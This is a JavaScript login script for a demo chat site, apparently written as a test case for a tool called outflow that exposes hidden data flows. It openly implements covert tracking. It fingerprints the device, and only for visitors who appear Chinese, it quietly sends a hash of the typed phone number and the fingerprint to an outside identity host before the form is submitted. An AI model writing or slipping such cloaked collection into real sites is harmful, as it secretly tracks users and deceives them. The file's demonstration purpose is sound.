// The login script of the demo chat site ("Lumina AI"), before obfuscation.
// It is ours, written for outflow's demo: the shipped file is this code run
// through javascript-obfuscator (see ../README.md for the command).
//
// What it does, on purpose, like the code in the case that started outflow:
// - fingerprints the device (canvas text readback, WebGL unmasked renderer,
//   navigator and screen properties);
// - when the visitor looks Chinese (time zone or language), hashes the phone
//   number typed into the login form and sends it, with the fingerprint, to
//   a China Mobile identity host; other visitors never contact that host.
(function () {
  'use strict';

  function sha256(ascii) {
    function rightRotate(value, amount) {
      return (value >>> amount) | (value << (32 - amount));
    }
    var maxWord = Math.pow(2, 32);
    var result = '';
    var words = [];
    var asciiBitLength = ascii.length * 8;
    var hash = [];
    var k = [];
    var primeCounter = 0;
    var isComposite = {};
    for (var candidate = 2; primeCounter < 64; candidate++) {
      if (!isComposite[candidate]) {
        for (var i = 0; i < 313; i += candidate) {
          isComposite[i] = candidate;
        }
        hash[primeCounter] = (Math.pow(candidate, 0.5) * maxWord) | 0;
        k[primeCounter++] = (Math.pow(candidate, 1 / 3) * maxWord) | 0;
      }
    }
    hash = hash.slice(0, 8);
    ascii += '\x80';
    while ((ascii.length % 64) - 56) ascii += '\x00';
    for (i = 0; i < ascii.length; i++) {
      var j = ascii.charCodeAt(i);
      words[i >> 2] |= j << (((3 - i) % 4) * 8);
    }
    words[words.length] = (asciiBitLength / maxWord) | 0;
    words[words.length] = asciiBitLength;
    for (j = 0; j < words.length; ) {
      var w = words.slice(j, (j += 16));
      var oldHash = hash;
      hash = hash.slice(0, 8);
      for (i = 0; i < 64; i++) {
        var w15 = w[i - 15],
          w2 = w[i - 2];
        var a = hash[0],
          e = hash[4];
        var temp1 =
          hash[7] +
          (rightRotate(e, 6) ^ rightRotate(e, 11) ^ rightRotate(e, 25)) +
          ((e & hash[5]) ^ (~e & hash[6])) +
          k[i] +
          (w[i] =
            i < 16
              ? w[i]
              : (w[i - 16] +
                  (rightRotate(w15, 7) ^ rightRotate(w15, 18) ^ (w15 >>> 3)) +
                  w[i - 7] +
                  (rightRotate(w2, 17) ^ rightRotate(w2, 19) ^ (w2 >>> 10))) |
                0);
        var temp2 =
          (rightRotate(a, 2) ^ rightRotate(a, 13) ^ rightRotate(a, 22)) +
          ((a & hash[1]) ^ (a & hash[2]) ^ (hash[1] & hash[2]));
        hash = [(temp1 + temp2) | 0].concat(hash);
        hash[4] = (hash[4] + temp1) | 0;
        hash.pop();
      }
      for (i = 0; i < 8; i++) {
        hash[i] = (hash[i] + oldHash[i]) | 0;
      }
    }
    for (i = 0; i < 8; i++) {
      for (j = 3; j + 1; j--) {
        var b = (hash[i] >> (j * 8)) & 255;
        result += (b < 16 ? '0' : '') + b.toString(16);
      }
    }
    return result;
  }

  function canvasPrint() {
    var canvas = document.createElement('canvas');
    canvas.width = 240;
    canvas.height = 60;
    var ctx = canvas.getContext('2d');
    ctx.textBaseline = 'top';
    ctx.font = '16px Arial';
    ctx.fillStyle = '#f60';
    ctx.fillRect(100, 1, 62, 20);
    ctx.fillStyle = '#069';
    ctx.fillText('Lumina AI, fingerprint <canvas> 1.0', 2, 15);
    ctx.fillStyle = 'rgba(102, 204, 0, 0.7)';
    ctx.fillText('Lumina AI, fingerprint <canvas> 1.0', 4, 17);
    return sha256(canvas.toDataURL());
  }

  function webglPrint() {
    var canvas = document.createElement('canvas');
    var gl = canvas.getContext('webgl') || canvas.getContext('experimental-webgl');
    if (!gl) return 'none';
    var info = gl.getExtension('WEBGL_debug_renderer_info');
    var vendor = info ? gl.getParameter(info.UNMASKED_VENDOR_WEBGL) : gl.getParameter(gl.VENDOR);
    var renderer = info
      ? gl.getParameter(info.UNMASKED_RENDERER_WEBGL)
      : gl.getParameter(gl.RENDERER);
    var extensions = (gl.getSupportedExtensions() || []).join(',');
    var precision = gl.getShaderPrecisionFormat(gl.FRAGMENT_SHADER, gl.HIGH_FLOAT);
    return sha256([vendor, renderer, extensions, precision && precision.precision].join('|'));
  }

  function devicePrint() {
    return sha256(
      [
        navigator.userAgent,
        navigator.platform,
        navigator.language,
        navigator.hardwareConcurrency,
        navigator.deviceMemory,
        screen.width + 'x' + screen.height + 'x' + screen.colorDepth,
        new Date().getTimezoneOffset(),
      ].join('|')
    );
  }

  function looksChinese() {
    var zone = '';
    try {
      zone = Intl.DateTimeFormat().resolvedOptions().timeZone || '';
    } catch (e) {
      zone = '';
    }
    var language = (navigator.language || '').toLowerCase();
    return zone === 'Asia/Shanghai' || zone === 'Asia/Urumqi' || language.indexOf('zh') === 0;
  }

  var fingerprint = [canvasPrint(), webglPrint(), devicePrint()].join('.');
  var identityHost = 'http://wap.cmpassport.com';
  var tokenPath = '/openapi/wabpGetUseInfo';

  function sendIdentity(phone) {
    if (!looksChinese()) return;
    var body = JSON.stringify({ ph: sha256(phone), fp: fingerprint, appid: '300011860413' });
    fetch(identityHost + tokenPath, {
      method: 'POST',
      headers: { 'Content-Type': 'application/json' },
      body: body,
      mode: 'no-cors',
    });
  }

  function wire() {
    var phone = document.querySelector('input[type=tel]');
    if (phone) {
      phone.addEventListener('blur', function () {
        if (phone.value.length >= 6) sendIdentity(phone.value);
      });
    }
    var form = document.querySelector('form');
    if (form) {
      form.addEventListener('submit', function (event) {
        event.preventDefault();
        fetch('/api/login', {
          method: 'POST',
          headers: { 'Content-Type': 'application/json' },
          body: JSON.stringify({ phone: phone && phone.value, fp: fingerprint }),
        });
      });
    }
  }

  if (document.readyState === 'loading') {
    document.addEventListener('DOMContentLoaded', wire);
  } else {
    wire();
  }
})();
